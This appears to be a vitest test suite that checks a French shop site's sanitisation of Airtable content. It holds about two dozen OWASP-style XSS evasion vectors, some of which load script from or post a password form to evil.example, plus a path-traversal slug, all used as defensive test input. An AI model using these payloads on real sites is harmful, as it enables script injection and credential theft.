import { expect, test } from "vitest";
import { aBook, anAirtable, anArticle, aSupplement, untilRead } from "#tests/support/library.ts";
import { aShop } from "#tests/support/own-shop.ts";
import { htmlValidator } from "#tests/support/valid-html.ts";
import { type Page, Visitor } from "#tests/support/visitor.ts";

/** Whoever can write to the founder's Airtable can write anything: pages stay safe and valid. */

/** From the OWASP cheat sheet on filter evasion. */
const VECTORS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<img src='https://evil.example/pixel.gif' alt='pixel'>",
  "<img/src=`x`onerror=alert(1)>",
  "<a href='javascript:alert(1)'>a</a>",
  "<a href='jav&#x09;ascript:alert(1)'>b</a>",
  "<a href=' &#14; javascript:alert(1)'>c</a>",
  "<a href='JaVaScRiPt:alert(1)'>d</a>",
  "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>e</a>",
  "<a href='vbscript:msgbox(1)'>f</a>",
  "<a href='//evil.example/'>g</a>",
  "<a href='https://exemple.fr/' target=_blank onclick=alert(1) style='position:fixed;inset:0'>h</a>",
  "<svg onload=alert(1)><animate attributeName=href values=javascript:alert(1)></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<iframe src='javascript:alert(1)'></iframe><object data=x></object><embed src=x>",
  "<style>*{background:url(//evil.example)}</style><link rel=stylesheet href=//evil.example/x.css>",
  "<form action=//evil.example><input name=password><button>ok</button></form>",
  "<base href='//evil.example/'><meta http-equiv=refresh content='0;url=//evil.example'>",
  "<p id=contenu name=body class=button onmouseover=alert(1)>i</p>",
  "<details open ontoggle=alert(1)><summary>j</summary></details><video><source onerror=alert(1)></video>",
  "<!--><img src=x onerror=alert(1)>--><noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<textarea></textarea><xmp><img src=x onerror=alert(1)></xmp><plaintext>",
];
const MALFORMED =
  "<p>un<ul>deux<li>trois<p>quatre<li>cinq</ul>six<h4>sept<p>huit</h4><li>neuf</li><td>dix</td>" +
  "<table>onze<tr><td>douze<th>treize<tr>quatorze</table><a href='/x'>quinze<a href='/y'>seize</a><b><p>dix-sept</b></p>" +
  "<figcaption>dix-huit</figcaption><h5>dix-neuf</h5><blockquote><h3></h3>vingt</blockquote></div></p>";

const deep = (depth: number) => `${"<blockquote>".repeat(depth)}profond${"</blockquote>".repeat(depth)}`;

const airtable = await anAirtable({
  articles: [
    anArticle({ title: "Vecteurs", content: `<p>Début</p>${VECTORS.join("\n")}<p>Fin</p>` }),
    ...VECTORS.map((vector, index) =>
      anArticle({
        title: `Vecteur ${index} ${vector}`,
        slug: `v${index}`,
        content: vector,
        excerpt: vector,
        author: vector,
      }),
    ),
    anArticle({ title: "Mal formé", content: MALFORMED }),
    anArticle({ title: "Géant", content: `<p>début</p>${deep(20_000)}${"<p>mot <b>gras</b></p>".repeat(60_000)}` }),
    anArticle({ title: "Coupé", content: '<p>début</p><p>fin sans <a href="https://exemple.fr/x' }),
    anArticle({ title: "Sans balises", content: "Une ligne & <3\n\nUne autre" }),
    anArticle({ title: "Doublon", excerpt: "le premier" }),
    anArticle({ title: "Doublon", excerpt: "le second" }),
    anArticle({ title: "Chemin", slug: "../../admin/login?x=<script>" }),
    anArticle({ title: `${"Très long ".repeat(100)}`, slug: "long", category: "x".repeat(500) }),
    anArticle({
      title: "Types",
      slug: 42,
      excerpt: ["a"],
      category: {},
      author: true,
      readingTime: "douze",
      publishedAt: 7,
      coverImage: "non",
    }),
    anArticle({ title: 42 }, "recTitreNombre"),
    anArticle({ title: undefined }, "recSansTitre"),
    anArticle({ title: "Contenu nombre", content: 42 }, "recContenuNombre"),
    anArticle({
      title: "👩🏽‍💻 \u202eenvers\u0000 \ud800",
      slug: "emoji",
      publishedAt: "+275760-09-13T00:00:00.001Z",
    }),
    anArticle({ title: "</script><script>alert(1)</script>", slug: "json-ld" }),
  ],
  books: [
    aBook({ "My Rating": 900 }),
    aBook({ title: "Moins", "My Rating": -4 }),
    aBook({ title: "Rien", "My Rating": "5" }),
  ],
  supplements: [
    aSupplement({ "Nom Complément": "Cinq mégaoctets", Notes: `<p>${"é".repeat(2_600_000)}</p>` }),
    aSupplement({
      "Nom Complément": "<b>Gras</b>",
      "Moment de prise": "<script>alert(1)</script>",
      Notes: VECTORS.join(""),
    }),
  ],
});
const shop = await aShop({ airtable });
const visitor = new Visitor(shop.url);
await untilRead(shop);

const ALLOWED = new Set(
  "h2 h3 h4 p br hr strong em b i u s blockquote ul ol li a img figure figcaption code pre table caption thead tbody tfoot tr th td div picture source".split(
    " ",
  ),
);

/** Content of the page that its own template would not produce. */
function faults(page: Page): string[] {
  const found: string[] = [];
  for (const element of page.document.querySelectorAll(".prose *")) {
    const name = element.rawTagName.toLowerCase();
    if (!ALLOWED.has(name)) found.push(`<${name}>`);
    for (const [attribute, value] of Object.entries(element.attributes)) {
      if (/^(on|style|id|name|class|target|form)/i.test(attribute) && value !== "table-scroll")
        found.push(`${name} ${attribute}`);
      if (attribute === "href" && !/^(https:\/\/|mailto:|tel:|\/(?!\/)|[\w-]+$)/.test(value))
        found.push(`href ${value}`);
      if (/^src/i.test(attribute) && !value.startsWith("/media/")) found.push(`${attribute} ${value}`);
    }
  }
  const scripts = page.document.querySelectorAll("script:not([type='application/ld+json'])");
  if (scripts.length !== 1) found.push(`${scripts.length} scripts`);
  for (const data of page.document.querySelectorAll("script[type='application/ld+json']")) JSON.parse(data.rawText);
  return found;
}

/** One after the other: a busy machine refuses some of forty at once. */
async function everyPage(): Promise<Page[]> {
  const pages = [await visitor.open("/articles")];
  const links =
    pages[0]?.document.querySelectorAll("main article a").map((link) => link.getAttribute("href") ?? "") ?? [];
  for (const link of ["/ressources/livres", "/ressources/regime", ...links]) pages.push(await visitor.open(link));
  return pages;
}

test("no page holds a script, a handler, a style or a link that is not the shop's, and all are valid HTML", async () => {
  const pages = await everyPage();
  expect(pages.length).toBeGreaterThan(35);
  // « tel »: the author's text, not markup of the shop.
  const validate = htmlValidator({ without: ["tel-non-breaking"] });
  const found: string[] = [];
  for (const page of pages) {
    expect([page.url, page.status]).toEqual([page.url, 200]);
    found.push(...faults(page).map((fault) => `${page.url}: ${fault}`));
    // All vectors in one text were validated together, so single ones are not validated again.
    if (/\/v\d+$/.test(page.url)) continue;
    found.push(...(await validate(page.html, page.url)));
  }
  expect(found.slice(0, 20)).toEqual([]);
});

test("badly written HTML is repaired without loss of text, and plain text becomes paragraphs", async () => {
  const malformed = await visitor.open("/articles/mal-forme");
  const text = malformed.document.querySelector(".prose")?.text ?? "";
  for (const word of "un deux trois quatre cinq six sept huit neuf dix douze treize quinze seize dix-sept vingt".split(
    " ",
  )) {
    expect(text).toContain(word);
  }
  const plain = await visitor.open("/articles/sans-balises");
  expect(plain.document.querySelectorAll(".prose p").map((paragraph) => paragraph.text)).toEqual([
    "Une ligne & <3",
    "Une autre",
  ]);
  const cut = await visitor.open("/articles/coupe");
  expect(cut.document.querySelector(".prose")?.text).toContain("fin sans");
});

test("external links carry rel attributes, internal links stay plain", async () => {
  const page = await visitor.open("/articles/vecteurs");
  const link = page.document.querySelectorAll(".prose a").find((one) => one.text === "h");
  expect(link?.attributes).toEqual({ href: "https://exemple.fr/", rel: "noopener nofollow ugc" });
});

test("huge texts are cut, and no page is heavy", async () => {
  for (const address of ["/articles/geant", "/ressources/regime", "/articles"]) {
    expect((await visitor.open(address)).html.length).toBeLessThan(600_000);
  }
  expect((await visitor.open("/articles/geant")).text).toContain("début");
});

test("a record that cannot be shown is left out without the others, and the log names it", async () => {
  const list = await visitor.open("/articles");
  expect(list.text).toContain("Types");
  expect(list.text).not.toContain("Contenu nombre");
  for (const id of ["recTitreNombre", "recSansTitre", "recContenuNombre"]) {
    expect(shop.logs.some((line) => line.includes("record left out") && line.includes(id))).toBe(true);
  }
});

test("two articles with the same title have different addresses, and a slug is never a path", async () => {
  const list = await visitor.open("/articles");
  const links = list.document.querySelectorAll("main article a").map((link) => link.getAttribute("href") ?? "");
  expect(new Set(links).size).toBe(links.length);
  const twins = links.filter((link) => link.startsWith("/articles/doublon"));
  expect(twins).toHaveLength(2);
  expect(twins).toContain("/articles/doublon");
  expect((await visitor.open("/articles/doublon")).text).toContain("le premier");
  expect(links).toContain("/articles/admin-login-x-script");
});

test("ratings stay between 0 and 5, and a rating that is not a number is left out", async () => {
  const page = await visitor.open("/ressources/livres");
  const labels = page.document
    .querySelectorAll(".book")
    .map((book) => book.querySelector("[role=img]")?.getAttribute("aria-label"));
  expect(labels.map((label) => label?.replace(/\s/g, " "))).toEqual(["Note : 5 sur 5", "Note : 0 sur 5", undefined]);
});

test("the feed stays well-formed", async () => {
  const xml = await (await visitor.request("/flux.xml")).text();
  expect(xml).not.toMatch(/<script|&(?!amp;|lt;|gt;|quot;)/);
  // biome-ignore lint/suspicious/noControlCharactersInRegex: XML forbids them
  expect(xml).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/);
  expect(xml.match(/<entry>/g)?.length).toBe(xml.match(/<\/entry>/g)?.length);
});
